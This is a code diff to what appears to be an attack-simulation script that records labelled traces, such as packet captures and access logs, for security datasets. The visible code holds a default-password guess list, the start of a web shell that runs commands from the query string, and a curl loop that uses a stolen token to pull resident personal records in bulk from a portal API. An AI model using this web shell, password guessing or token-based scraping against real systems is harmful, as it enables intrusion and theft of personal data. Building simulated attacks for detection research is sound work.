@@ -32,6 +32,7 @@ GUESSES = [(user, password) for user in ("root", "admin", "test", "oracle", "ubu
            for password in ("123456", "admin123", "Passw0rd", "qwerty")] + [
     ("weihu", password) for password in ("123456", "weihu", "admin123", "qinghe2026", "Weihu@123", "weihu888")
 ]  # fmt: skip
+PAGES, ROWS = 60, 150  # what is taken from the public-data API
 WEB_SHELL = r"""#!/bin/sh
 # test web shell of a recording: runs what the query string says
 cmd=$(printf "%s" "${QUERY_STRING#cmd=}" | sed "s/+/ /g; s/%20/ /g; s/%2F/\//g; s/%3B/;/g; s/%7C/|/g")
@@ -209,16 +210,16 @@ class Attack:
     def _api(self) -> Step:
         token = API_TOKENS[0][0]
         loop = (
-            f"n=1; while [ $n -le 60 ]; do curl -s -m 20 -o /dev/null -A python-requests/2.31.0 -H 'Host: {PUBLIC_SITE}' "
+            f"n=1; while [ $n -le {PAGES} ]; do curl -s -m 20 -o /dev/null -A python-requests/2.31.0 -H 'Host: {PUBLIC_SITE}' "
             f"-H 'Authorization: Bearer {token}' "
-            f'"http://{PUBLIC_PORTAL}/api/v1/datasets/resident-services/records?page=$n&size=150"; n=$((n+1)); done'
+            f'"http://{PUBLIC_PORTAL}/api/v1/datasets/resident-services/records?page=$n&size={ROWS}"; sleep 0.25; n=$((n+1)); done'
         )
         self._on.run("sh", "-c", loop, timeout=120)
         return Step(
             "personal records taken in bulk from the public-data API", "T1530", [ATTACKER, PORTAL, DATA],
             ["extranet.pcap.gz", "portal/nginx-access.log", "data-host/data-api.jsonl"],
-            "60 pages of 100 resident records with the portal's own token, from an outside address that never used it.",
-            "用窃取的门户令牌从外部地址（203.0.113.66）批量翻页拉取居民数据，共 60 页、每页 100 条。",
+            f"{PAGES} pages of {ROWS} resident records with the portal's own token, from an outside address that never used it.",
+            f"用窃取的门户令牌从外部地址（{ATTACKER}）批量翻页拉取居民数据，共 {PAGES} 页、每页 {ROWS} 条。",
         )  # fmt: skip
 
     def _exfiltrate(self) -> Step:
